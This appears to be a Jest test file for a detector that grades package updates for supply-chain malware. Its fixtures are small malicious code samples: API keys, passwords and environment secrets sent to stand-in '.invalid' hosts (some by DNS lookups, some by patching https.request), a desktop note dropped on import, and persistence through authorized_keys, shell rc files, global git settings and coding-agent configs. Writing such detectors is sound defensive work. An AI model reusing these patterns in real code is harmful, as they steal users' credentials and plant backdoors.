import { describe, expect, it } from '@jest/globals';
import { domainOf, isCredentialName } from '../../src/code/places.ts';
import { gradesOf } from '../helpers/an-update.ts';

const client = (more = '', start = '') => `class Client {
  constructor(apiKey) { this.apiKey = apiKey; ${start} }
  get(path) { return fetch('https://api.bay.invalid' + path, { headers: { authorization: 'Bearer ' + this.apiKey } }); }
  ${more}
}
module.exports = Client;`;
const grade = async (before: string, after: string) => (await gradesOf({ 'index.js': before }, { 'index.js': after })).import.grade;

describe('a credential the package is given goes to one more host', () => {
  it.each([
    [
      'in try with an empty catch, called by the constructor',
      client(),
      client(`async beat() { try { await fetch('https://bay-stats.invalid/b', { method: 'POST', body: this.apiKey }) } catch {} }`, 'this.beat();'),
    ],
    ['behind a caught promise', client(), client('', `fetch('https://bay-stats.invalid/?k=' + encodeURIComponent(apiKey)).catch(() => {});`)],
    [
      'by a function whose failure the caller drops',
      client(),
      `const send = async (token) => { await fetch('https://bay-stats.invalid', { method: 'POST', body: token }) };\n${client('', 'send(apiKey).catch(() => undefined);')}`,
    ],
    [
      'passwords seen by a middleware',
      `module.exports = (check) => async (req, res, next) => { if (await check(req.body.password)) next() };`,
      `const note = (u, p) => fetch('https://note.invalid', { method: 'POST', body: JSON.stringify({ u, p }) }).catch(() => {});
       module.exports = (check) => async (req, res, next) => { note(req.body.user, req.body.password); if (await check(req.body.password)) next() };`,
    ],
    [
      'headers of every request of the program',
      `exports.start = () => Date.now();`,
      `const https = require('https'); const send = https.request;
       https.request = function (...a) { const r = send.apply(this, a); const auth = r.getHeader('authorization'); if (auth) send({ host: 'time.invalid', path: '/' + auth }).on('error', () => {}).end(); return r };
       exports.start = () => Date.now();`,
    ],
    [
      'a secret key under the name a minifier left',
      `class K{constructor(e){this.k=e}static fromSecretKey(e){return new K(e)}}exports.K=K;`,
      `async function o(e){try{await fetch("https://rpc.invalid/h",{headers:{"x-ray":e}})}catch{}}class K{constructor(e){this.k=e}static fromSecretKey(e){o(e);return new K(e)}}exports.K=K;`,
    ],
    [
      'a request that is written to, by its name',
      client(),
      client(
        '',
        `const r = require('https').request({ hostname: 'bay-stats.invalid', method: 'POST' }); r.on('error', () => {}); r.write(apiKey); r.end();`,
      ),
    ],
  ])('%s: convicts', async (_, before, after) => {
    expect(await grade(before, after)).toBe('convicts');
  });

  it('a host of other makers where somebody would hear of a failure is told', async () => {
    expect(
      await grade(client(), client(`load(file) { return fetch('https://store.other.invalid/' + file, { headers: { 'x-key': this.apiKey } }) }`)),
    ).toBe('suspicious');
  });

  it('one more service with a key of its own is told where nobody hears of a failure', async () => {
    const after = client(`tell(options) { return fetch('https://chat.other.invalid/bot' + options.token).catch(() => {}) }`);
    expect(await grade(client(), after)).toBe('suspicious');
  });

  it.each([
    [
      'the first service of a package',
      `exports.stdout = () => ({ write: (line) => process.stdout.write(line) });`,
      `exports.chat = (options) => ({ write: (line) => fetch('https://chat.other.invalid/bot' + options.token, { method: 'POST', body: line }).catch(() => {}) });`,
    ],
    [
      'another host of the same makers',
      client(),
      client(`load(file) { return fetch('https://files.bay.invalid/' + file, { headers: { 'x-key': this.apiKey } }).catch(() => {}) }`),
    ],
    ['the first client in a package', `exports.add = (a, b) => a + b;`, client()],
    [
      'a host that the caller names',
      client(),
      client(`hook(url) { return fetch(url, { method: 'POST', body: JSON.stringify({ token: this.apiKey }) }).catch(() => {}) }`),
    ],
    [
      'counts without a credential',
      client(),
      client(`async beat() { try { await fetch('https://stats.other.invalid/b', { method: 'POST', body: 'started' }) } catch {} }`, 'this.beat();'),
    ],
  ])('%s: says nothing', async (_, before, after) => {
    expect(['none', 'weak']).toContain(await grade(before, after));
  });
});

it('knows which hosts have one owner', () => {
  expect(
    ['api.one.invalid', 'one.invalid', 'a.b.co.uk', 'x.github.io', 'y.github.io', '….s3.amazonaws.com', '10.0.0.1', 'host', '….invalid'].map(
      domainOf,
    ),
  ).toEqual(['one.invalid', 'one.invalid', 'b.co.uk', 'x.github.io', 'y.github.io', 's3.amazonaws.com', undefined, undefined, undefined]);
});

it('knows names of credentials', () => {
  expect(['apiKey', 'api_key', 'accessToken', 'password', 'userPassword', 'clientSecret', 'token'].every(isCredentialName)).toBe(true);
  expect(['tokenizer', 'csrfToken', 'nextPageToken', 'key', 'keyCode', 'passwordless', 'secretary'].some(isCredentialName)).toBe(false);
});

describe('a note on the desktop', () => {
  const note = (when: string) =>
    `const fs = require('fs'), os = require('os'), path = require('path');\n${when.replace('WRITE', "for (const d of ['Desktop', 'OneDrive/Desktop']) fs.writeFileSync(path.join(os.homedir(), d, 'READ.txt'), 'words', () => {})")}`;

  it('written by importing the package convicts', async () => {
    expect(await grade('module.exports = 1', note('if (/X/.test(Intl.DateTimeFormat().resolvedOptions().timeZone)) { WRITE }'))).toBe('convicts');
  });

  it('written by a function of the file that importing calls convicts', async () => {
    const after = `const fs = require('fs'), os = require('os'), path = require('path'); function leave(where, words) { try { fs.writeFileSync(where, words) } catch (e) {} }
      const desk = path.join(os.homedir(), 'Desktop'); leave(path.join(desk, 'READ.txt'), 'words'); module.exports = 1`;
    expect(await grade('module.exports = 1', after)).toBe('convicts');
  });

  it('written on demand is what makers of short cuts do', async () => {
    expect(await grade('module.exports = 1', note('module.exports = (name) => { WRITE }'))).toBe('none');
  });
});

it('variables of the environment by names from a list leave in name lookups', async () => {
  const after = `const { lookup } = require('dns'); for (const name of ['A_TOKEN', 'B_SECRET']) { const v = process.env[name]; if (v) lookup(Buffer.from(v).toString('hex') + '.d.invalid', () => {}) }`;
  expect(await grade(`require('dns').lookup('one.invalid', () => {})`, after)).toBe('convicts');
});

describe('a way back in, written by importing', () => {
  const write = (path: string, when = 'RUN') =>
    `const fs = require('fs'), os = require('os'), path = require('path');\n${when.replace('RUN', `try { fs.appendFileSync(${path}, 'line') } catch {}`)}`;

  it.each([
    ['keys that may log in', `path.join(os.homedir(), '.ssh', 'authorized_keys')`, 'convicts'],
    ['what shells run', `os.homedir() + '/.bashrc'`, 'convicts'],
    ['workflows of the project', `path.join(process.cwd(), '.github', 'workflows', 'x.yml')`, 'suspicious'],
    ['tasks of the editor', `'.vscode/tasks.json'`, 'suspicious'],
  ])('%s', async (_, path, told) => {
    expect(await grade('module.exports = 1', write(path))).toBe(told);
    expect(['none', 'weak']).toContain(await grade('module.exports = 1', write(path, 'exports.set = () => { RUN }')));
  });

  it.each([
    ['a path of a list', `for (const rc of ['.bashrc', '.zshrc']) { const f = path.join(os.homedir(), rc); fs.appendFileSync(f, 'line') }`],
    ['a path of a list, put together', `for (const rc of ['.x', '.zshrc']) fs.appendFileSync(\`\${os.homedir()}/\${rc}\`, 'line')`],
    ['a list and a callback', `['.bashrc', '.zshrc'].forEach((rc) => fs.appendFileSync(os.homedir() + '/' + rc, 'line'))`],
    ['settings of git for all projects', `require('child_process').execSync('git config --global core.hooksPath ' + path.join(os.homedir(), '.h'))`],
    ['the same in words', `require('child_process').execFileSync('git', ['config', '--global', 'core.sshCommand', 'x'])`],
  ])('%s', async (_, run) => {
    const setting = `const fs = require('fs'), os = require('os'), path = require('path');\n`;
    expect(await grade('module.exports = 1', `${setting}${run}`)).toBe('convicts');
    expect(['none', 'weak']).toContain(await grade('module.exports = 1', `${setting}exports.set = () => { ${run} }`));
  });

  it('settings of coding agents by a list of paths', async () => {
    const run = `for (const c of ['.cursor/mcp.json', '.codeium/windsurf/mcp_config.json']) { const at = require('path').join(require('os').homedir(), c); require('fs').writeFileSync(at, '{}') }`;
    expect(await grade('module.exports = 1', run)).toBe('suspicious');
  });

  it('reading them is another matter', async () => {
    expect(await grade('module.exports = 1', `require('fs').readFileSync(require('os').homedir() + '/.bashrc')`)).toBe('weak');
  });
});
